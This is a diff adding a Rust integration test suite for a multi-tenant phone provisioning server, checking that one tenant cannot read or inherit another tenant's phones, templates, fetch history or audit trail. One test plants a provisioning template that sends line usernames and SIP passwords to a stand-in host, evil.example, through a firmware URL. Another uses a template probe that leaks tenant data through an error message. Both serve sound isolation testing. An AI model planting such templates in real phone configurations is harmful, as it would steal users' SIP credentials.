@@ -1,0 +1,437 @@
+//! Tenants are untrusted: attacks by one tenant's tokens on another tenant,
+//! against the real binary, on SQLite and on PostgreSQL. Each attack must
+//! fail with a clear 4xx, and nothing of the other tenant (its name, its
+//! phones' labels, names or passwords) may appear in any response or in the
+//! node's log.
+
+mod common;
+
+use std::time::Duration;
+
+use common::*;
+use dialtone_sync::testing::TestDb;
+use reqwest::Method;
+use serde_json::{json, Value};
+
+const ACME_PHONE: &str = "001565a00001";
+const GLOBEX_PHONE: &str = "001565b00001";
+/// What globex has that acme must never see.
+const GLOBEX_SECRETS: [&str; 4] = [
+    "Globex Corporation",
+    "Hank's desk",
+    "Hank Scorpio",
+    "globex-sip-password",
+];
+
+struct Tenants {
+    _dir: tempfile::TempDir,
+    url: String,
+    server: Server,
+    global: Api,
+    acme_admin: Api,
+    acme_read: Api,
+    globex_admin: Api,
+}
+
+impl Tenants {
+    async fn new(url: String, dir: tempfile::TempDir) -> Tenants {
+        let tenants = write_file(
+            dir.path(),
+            "tenants.csv",
+            "slug,name,default_region\nacme,Acme Inc,US\nglobex,Globex Corporation,US\n",
+        );
+        let phones = write_file(
+            dir.path(),
+            "phones.csv",
+            &format!(
+                "tenant,mac,family,model,line,extension,display_name,password,registrar\n\
+                 acme,{ACME_PHONE},yealink,T46S,1,100,Alice Example,acme-sip-password,sip.acme.example\n\
+                 globex,{GLOBEX_PHONE},yealink,T46S,1,200,Hank Scorpio,globex-sip-password,sip.globex.example\n"
+            ),
+        );
+        let mut cmd = dialtone(dir.path(), &url);
+        cmd.arg("import").arg(&tenants).arg(&phones);
+        let out = run(cmd);
+        assert!(out.status.success(), "{}", text(&out.stderr));
+        let server = Server::start(dir.path(), &url, &[]);
+        let token = |args: &[&str]| create_token(dir.path(), &url, args);
+        let global = Api::new(
+            server.addr,
+            token(&["--scope", "global-admin", "--name", "ops"]),
+        );
+        let acme_admin = Api::new(
+            server.addr,
+            token(&["--scope", "tenant-admin", "--tenant", "acme", "--name", "a"]),
+        );
+        let acme_read = Api::new(
+            server.addr,
+            token(&["--scope", "tenant-read", "--tenant", "acme", "--name", "r"]),
+        );
+        let globex_admin = Api::new(
+            server.addr,
+            token(&[
+                "--scope",
+                "tenant-admin",
+                "--tenant",
+                "globex",
+                "--name",
+                "g",
+            ]),
+        );
+        let t = Tenants {
+            _dir: dir,
+            url,
+            server,
+            global,
+            acme_admin,
+            acme_read,
+            globex_admin,
+        };
+        // The tokens reached the node through the change log.
+        for _ in 0..200 {
+            if t.globex_admin
+                .send(Method::GET, "/v1/phones", None, None)
+                .await
+                .0
+                == 200
+                && t.acme_read
+                    .send(Method::GET, "/v1/phones", None, None)
+                    .await
+                    .0
+                    == 200
+            {
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(25)).await;
+        }
+        // Hank's phone gets a label only globex knows.
+        let (status, _, phone) = t
+            .globex_admin
+            .send(
+                Method::PUT,
+                &format!("/v1/phones/{GLOBEX_PHONE}"),
+                Some(
+                    json!({ "tenant": "globex", "family": "yealink", "model": "T46S",
+                    "label": "Hank's desk",
+                    "lines": [{ "extension": "200", "display_name": "Hank Scorpio",
+                                "registrar": "sip.globex.example" }] }),
+                ),
+                None,
+            )
+            .await;
+        assert_eq!(status, 200, "{phone}");
+        t
+    }
+
+    /// Nothing of globex in anything acme's tokens were answered, nor in
+    /// the log.
+    fn assert_no_globex_reached_acme(&self) {
+        for api in [&self.acme_admin, &self.acme_read] {
+            let seen = api.seen.lock().unwrap();
+            for secret in GLOBEX_SECRETS {
+                assert!(!seen.contains(secret), "acme was shown {secret:?}: {seen}");
+            }
+        }
+        let log = self.server.stderr();
+        assert!(
+            !log.contains("globex-sip-password"),
+            "a password in the log"
+        );
+    }
+}
+
+async fn sqlite() -> Tenants {
+    let dir = tempfile::tempdir().unwrap();
+    let url = sqlite_url(dir.path());
+    Tenants::new(url, dir).await
+}
+
+async fn postgres() -> (TestDb, Tenants) {
+    let db = TestDb::postgres().await;
+    let url = db.url.clone();
+    (db, Tenants::new(url, tempfile::tempdir().unwrap()).await)
+}
+
+/// Item 1: a template check with another tenant's phone as its sample is
+/// answered exactly like one with a phone that does not exist.
+async fn sample_phones_of_another_tenant_do_not_exist(t: Tenants) {
+    let probe = "{{ throw(message=(tenant|str) ~ \" | \" ~ phone.label ~ \" | \" ~ (lines|str)) }}";
+    let ask = |mac: &str| {
+        json!({ "scope": "tenant", "tenant": "acme", "family": "yealink",
+                "file_pattern": "{mac}.cfg", "body": probe, "sample_mac": mac })
+    };
+    let (status, _, theirs) = t
+        .acme_read
+        .send(
+            Method::POST,
+            "/v1/templates/validate",
+            Some(ask(GLOBEX_PHONE)),
+            None,
+        )
+        .await;
+    let (status_none, _, none) = t
+        .acme_read
+        .send(
+            Method::POST,
+            "/v1/templates/validate",
+            Some(ask("001565ffffff")),
+            None,
+        )
+        .await;
+    assert_eq!(status, 422, "{theirs}");
+    assert_eq!(status_none, 422);
+    let generic = |v: &Value| {
+        v.to_string()
+            .replace(GLOBEX_PHONE, "MAC")
+            .replace("001565ffffff", "MAC")
+    };
+    assert_eq!(
+        generic(&theirs),
+        generic(&none),
+        "another tenant's MAC must look absent"
+    );
+    // The same for a phone-scope key, a preview, the files and the history.
+    let phone_scope = json!({ "scope": "phone", "mac": GLOBEX_PHONE, "family": "yealink",
+                              "file_pattern": "{mac}.cfg", "body": "x" });
+    let (status, _, body) = t
+        .acme_admin
+        .send(Method::POST, "/v1/templates", Some(phone_scope), None)
+        .await;
+    assert_eq!(status, 422, "{body}");
+    for (method, path, body) in [
+        (
+            Method::POST,
+            "/v1/preview".to_string(),
+            Some(json!({ "mac": GLOBEX_PHONE })),
+        ),
+        (
+            Method::GET,
+            format!("/v1/phones/{GLOBEX_PHONE}/files"),
+            None,
+        ),
+        (
+            Method::GET,
+            format!("/v1/phones/{GLOBEX_PHONE}/history"),
+            None,
+        ),
+        (Method::GET, format!("/v1/phones/{GLOBEX_PHONE}"), None),
+    ] {
+        let (status, _, answer) = t.acme_read.send(method, &path, body, None).await;
+        assert_eq!(status, 404, "{path}: {answer}");
+    }
+    t.assert_no_globex_reached_acme();
+}
+
+/// Item 2: a phone-scope template dies with its phone; the next owner of
+/// the MAC gets none of it, nor the previous owner's fetch history.
+async fn a_phone_template_never_outlives_its_phone(t: Tenants) {
+    const X: &str = "001565c0ffee";
+    let phone = |tenant: &str| {
+        json!({ "mac": X, "tenant": tenant, "family": "yealink", "model": "T46S",
+                "lines": [{ "extension": "300", "display_name": "Desk X",
+                            "registrar": "sip.example.net", "password": "x-sip-password" }] })
+    };
+    let (status, _, answer) = t
+        .acme_admin
+        .send(Method::POST, "/v1/phones", Some(phone("acme")), None)
+        .await;
+    assert_eq!(status, 201, "{answer}");
+    let steal = "#!version:1.0.0.1\nstatic.firmware.url = http://evil.example/{% for l in lines %}{{ l.auth_user }}:{{ l.password }}{% endfor %}\n";
+    let (status, _, answer) = t
+        .acme_admin
+        .send(
+            Method::POST,
+            "/v1/templates",
+            Some(json!({ "scope": "phone", "mac": X, "family": "yealink",
+                         "file_pattern": "{mac}.cfg", "body": steal })),
+            None,
+        )
+        .await;
+    assert_eq!(status, 201, "{answer}");
+    // The phone fetches once while acme's: that is acme's history.
+    let file = format!("/{X}.cfg");
+    let served = http_get(t.server.prov_addr, &file).unwrap().1;
+    assert!(served.contains("evil.example"), "{served}");
+    let (status, _, _) = t
+        .acme_admin
+        .send(Method::DELETE, &format!("/v1/phones/{X}"), None, None)
+        .await;
+    assert_eq!(status, 204);
+    let (status, _, answer) = t
+        .globex_admin
+        .send(Method::POST, "/v1/phones", Some(phone("globex")), None)
+        .await;
+    assert_eq!(status, 201, "{answer}");
+    let served = http_get(t.server.prov_addr, &file).unwrap().1;
+    assert!(
+        !served.contains("evil.example"),
+        "acme's template reached globex: {served}"
+    );
+    let (_, _, list) = t
+        .globex_admin
+        .send(Method::GET, "/v1/templates", None, None)
+        .await;
+    assert!(!list.to_string().contains("evil.example"), "{list}");
+    // History is written in batches: wait for globex's fetch to land.
+    let mut history = Value::Null;
+    for _ in 0..200 {
+        let (status, _, answer) = t
+            .globex_admin
+            .send(Method::GET, &format!("/v1/phones/{X}/history"), None, None)
+            .await;
+        assert_eq!(status, 200, "{answer}");
+        history = answer;
+        if history.as_array().is_some_and(|h| !h.is_empty()) {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(25)).await;
+    }
+    assert_eq!(
+        history.as_array().map(Vec::len),
+        Some(1),
+        "globex sees only its own fetch (the one just made): {history}"
+    );
+
+    // A global admin moving a phone to another tenant drops its templates.
+    let (status, _, answer) = t
+        .globex_admin
+        .send(
+            Method::POST,
+            "/v1/templates",
+            Some(json!({ "scope": "phone", "mac": X, "family": "yealink",
+                         "file_pattern": "{mac}.cfg", "body": "#!version:1.0.0.1\n# globex only\n" })),
+            None,
+        )
+        .await;
+    assert_eq!(status, 201, "{answer}");
+    let (status, _, answer) = t
+        .global
+        .send(
+            Method::PUT,
+            &format!("/v1/phones/{X}"),
+            Some(phone("acme")),
+            None,
+        )
+        .await;
+    assert_eq!(status, 200, "{answer}");
+    let served = http_get(t.server.prov_addr, &file).unwrap().1;
+    assert!(!served.contains("globex only"), "{served}");
+    let (_, _, list) = t
+        .global
+        .send(Method::GET, "/v1/templates?scope=phone", None, None)
+        .await;
+    assert_eq!(list["items"].as_array().map(Vec::len), Some(0), "{list}");
+
+    // A tenant that reuses a deleted tenant's slug reads none of its audit
+    // trail.
+    let (status, _, answer) = t
+        .global
+        .send(Method::DELETE, "/v1/tenants/globex?force=true", None, None)
+        .await;
+    assert_eq!(status, 204, "{answer}");
+    let (status, _, answer) = t
+        .global
+        .send(
+            Method::POST,
+            "/v1/tenants",
+            Some(json!({ "slug": "globex", "name": "New Globex" })),
+            None,
+        )
+        .await;
+    assert_eq!(status, 201, "{answer}");
+    let heir = Api::new(
+        t.server.addr,
+        create_token(
+            t._dir.path(),
+            &t.url,
+            &[
+                "--scope",
+                "tenant-admin",
+                "--tenant",
+                "globex",
+                "--name",
+                "heir",
+            ],
+        ),
+    );
+    let mut audit = (0, String::new(), Value::Null);
+    for _ in 0..200 {
+        audit = heir.send(Method::GET, "/v1/audit", None, None).await;
+        if audit.0 == 200 {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(25)).await;
+    }
+    assert_eq!(audit.0, 200, "{}", audit.2);
+    // Only its own creation: nothing of the phones, templates and deletion
+    // of the globex before it.
+    let items = audit.2["items"].as_array().cloned().unwrap_or_default();
+    assert!(
+        items.len() == 1 && items[0]["action"] == "create" && items[0]["entity"] == "tenant",
+        "the new globex reads the old one's audit trail: {}",
+        audit.2
+    );
+    t.assert_no_globex_reached_acme();
+}
+
+/// Item 6: two creates of one MAC, by two tenants at once: one wins, the
+/// other gets a 409 that names no tenant, and the winner keeps the phone.
+async fn a_mac_is_created_once(t: Tenants) {
+    for round in 0..5 {
+        let mac = format!("0015650d{round:04x}");
+        let phone = |tenant: &str| json!({ "mac": mac, "tenant": tenant, "family": "yealink", "model": "T46S", "label": tenant });
+        let (a, g) = tokio::join!(
+            t.acme_admin
+                .send(Method::POST, "/v1/phones", Some(phone("acme")), None),
+            t.globex_admin
+                .send(Method::POST, "/v1/phones", Some(phone("globex")), None),
+        );
+        let mut statuses = [a.0, g.0];
+        statuses.sort();
+        assert_eq!(statuses, [201, 409], "round {round}: {} / {}", a.2, g.2);
+        let (winner, loser) = if a.0 == 201 { (&a, &g) } else { (&g, &a) };
+        let loser_text = loser.2.to_string();
+        assert!(
+            !loser_text.contains("acme") && !loser_text.contains("globex"),
+            "the 409 names a tenant: {loser_text}"
+        );
+        let (_, _, now) = t
+            .global
+            .send(Method::GET, &format!("/v1/phones/{mac}"), None, None)
+            .await;
+        assert_eq!(now["tenant"], winner.2["tenant"], "round {round}: {now}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn sample_phones_of_another_tenant_do_not_exist_on_sqlite() {
+    sample_phones_of_another_tenant_do_not_exist(sqlite().await).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn sample_phones_of_another_tenant_do_not_exist_on_postgresql() {
+    let (_db, t) = postgres().await;
+    sample_phones_of_another_tenant_do_not_exist(t).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_phone_template_never_outlives_its_phone_on_sqlite() {
+    a_phone_template_never_outlives_its_phone(sqlite().await).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_phone_template_never_outlives_its_phone_on_postgresql() {
+    let (_db, t) = postgres().await;
+    a_phone_template_never_outlives_its_phone(t).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_mac_is_created_once_on_sqlite() {
+    a_mac_is_created_once(sqlite().await).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_mac_is_created_once_on_postgresql() {
+    let (_db, t) = postgres().await;
+    a_mac_is_created_once(t).await;
+}
